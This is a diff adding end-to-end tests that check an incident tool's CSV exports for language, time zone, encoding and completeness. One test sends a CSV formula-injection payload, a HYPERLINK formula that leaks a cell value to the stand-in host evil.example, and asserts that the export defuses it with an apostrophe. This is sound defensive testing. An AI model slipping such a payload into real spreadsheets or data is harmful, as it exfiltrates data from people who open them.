@@ -894,6 +894,98 @@ test('time zone: picked in the header, applied at once, remembered; unknown name
   await again.ctx.close();
 });
 
+// RFC 4180 parse of an exported file (after its BOM): rows of cells.
+function parseCsv(text) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let q = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (q) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c;
+    } else if (c === '"' && cell === '') q = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell); rows.push(row); row = []; cell = ''; i++;
+    } else cell += c;
+  }
+  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
+  return rows;
+}
+
+// Click sel and read the file the page offers: [raw bytes, parsed rows].
+async function exportFrom(page, sel) {
+  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), page.click(sel)]);
+  assert.match(dl.suggestedFilename(), /^canh-incident.*\.csv$/);
+  const raw = fs.readFileSync(await dl.path());
+  assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
+  const text = raw.subarray(3).toString('utf8');
+  assert.ok(text.endsWith('\r\n'), 'CRLF lines');
+  return parseCsv(text);
+}
+
+// "2026-11-20 15:05:00": the export's time cell of a UTC time in UTC+7.
+function csv7(iso) {
+  const m = /^(\d{2})\/(\d{2})\/(\d{4}) (.*)$/.exec(plus7(iso));
+  return `${m[3]}-${m[2]}-${m[1]} ${m[4]}`;
+}
+
+test('CSV exports: queue and timeline in the user\'s language and zone; formulas neutralised', async () => {
+  const FORMULA_SRC = '198.18.0.77';
+  const sig = '=HYPERLINK("http://evil.example/?"&A1,"click, here")';
+  const r = await postEvents([alertEvent(FORMULA_SRC, 9199077, sig)]);
+  assert.equal(r.status, 200, JSON.stringify(r.body));
+  let formula = [];
+  for (let i = 0; i < 50 && !formula.length; i++) {
+    formula = (await apiGet(`/incidents?address=${FORMULA_SRC}&status=new,acknowledged,investigating,resolved,false_positive`)).incidents;
+    if (!formula.length) await new Promise((ok) => setTimeout(ok, 100));
+  }
+  assert.equal(formula.length, 1, 'an incident for the crafted alert');
+  const all = 'status=new,acknowledged,investigating,resolved,false_positive';
+  const [scan] = (await apiGet(`/incidents?address=198.51.100.23&${all}`)).incidents
+    .filter((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
+  assert.ok(scan, 'the port scan incident of the demo run');
+  const { ctx, page } = await login('analyst1');
+  for (const lang of ['vi', 'en']) {
+    const cat = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n', `${lang}.json`), 'utf8'));
+    await setLang(page, lang);
+    // The queue: every incident of the "all" tab (several pages of the API).
+    await page.goto(`${BASE}/#/queue`);
+    await page.waitForSelector('#rows tr[data-id]');
+    await page.click('.tab[data-status=""]');
+    await page.waitForFunction(() => document.querySelector('.tab[data-status=""]').getAttribute('aria-selected') === 'true');
+    assert.equal(await page.textContent('#export-csv'), cat['export.csv']);
+    const api = await apiGet('/incidents?limit=1');
+    const rows = await exportFrom(page, '#export-csv');
+    const head = rows[0];
+    assert.deepEqual(head, [cat['col.id'], cat['col.severity'], cat['col.title'], cat['col.status'], cat['field.disposition'],
+      cat['field.rule'], cat['field.src'], cat['field.dest'], cat['field.sensors'], cat['col.events'],
+      `${cat['col.first_seen']} (UTC+7)`, `${cat['col.last_seen']} (UTC+7)`, cat['col.assignee']], `${lang} header`);
+    assert.equal(rows.length - 1, Math.min(api.total, 10000), `${lang}: every matching incident (API total ${api.total})`);
+    assert.equal(new Set(rows.slice(1).map((x) => x[0])).size, rows.length - 1, 'no incident twice across pages');
+    const sr = rows.find((x) => x[0] === String(scan.id));
+    assert.ok(sr, `${lang}: the port scan #${scan.id} is exported`);
+    const now = (await apiGet(`/incidents/${scan.id}`));
+    assert.equal(sr[3], cat[`status.${now.status}`], `${lang} status`);
+    assert.equal(sr[1], cat[`sev.${now.severity}`], `${lang} severity`);
+    assert.equal(sr[2], lang === 'vi' ? (now.title_vi || now.title) : now.title);
+    assert.equal(sr[10], csv7(now.first_seen), `${lang}: first seen +7 h (stored ${now.first_seen})`);
+    if (now.disposition) assert.equal(sr[4], cat[`disp.${now.disposition}`]);
+    // The incident's timeline, with the crafted signature.
+    await openIncident(page, formula[0].id);
+    const ev = await exportFrom(page, '#timeline-csv');
+    assert.deepEqual(ev[0], [`${cat['export.col_time']} (UTC+7)`, cat['export.col_type'], cat['export.col_what'],
+      cat['export.col_src'], cat['export.col_dest'], cat['export.col_details']], `${lang} timeline header`);
+    const al = ev.find((x) => x[1] === 'alert');
+    assert.ok(al, 'the alert is exported');
+    assert.equal(al[2], `'${sig}`, 'a formula from the wire is prefixed with an apostrophe');
+    assert.equal(al[0], '2026-11-20 15:05:00', 'event time 08:05 UTC in UTC+7');
+    assert.match(al[3], new RegExp(`^${FORMULA_SRC.replace(/\./g, '\\.')}:\\d+$`));
+    assert.equal(al[4], '10.20.1.30:80');
+  }
+  await ctx.close();
+});
+
 test('logout ends the session', async () => {
   const { ctx, page } = await login('viewer1');
   await page.click('#logout-btn');
